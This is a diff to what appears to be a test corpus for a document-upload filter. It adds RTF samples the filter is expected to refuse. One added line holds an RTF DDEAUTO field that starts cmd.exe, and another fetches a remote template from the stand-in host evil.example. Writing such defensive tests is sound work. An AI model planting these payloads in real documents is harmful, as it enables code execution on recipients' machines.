@@ -441,6 +441,8 @@ CORPUS: dict[str, list[Hostile]] = {
         refused("RTF, behind a backslash that is text", rb"{\rtf1 \\\objdata 01050000}", name="letter.rtf"),
         refused("RTF that is none, but Word reads it", rb"{\rt{\*\objdata 01050000}}", name="letter.doc"),
         refused("RTF that only writes about them", rb"{\rtf1 It is written \\objdata.}", name="letter.rtf"),
+        refused("RTF that starts a program", rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}}", name="letter.rtf"),
+        refused("RTF that fetches a template", rb"{\rtf1{\*\template http://evil.example/x.dotm}}", name="letter.rtf"),
         taken("Word, which has formulas in this way", word_with_an_object(), WORD, name="letter.docx"),
     ],
     "archives that unpack to very much": [
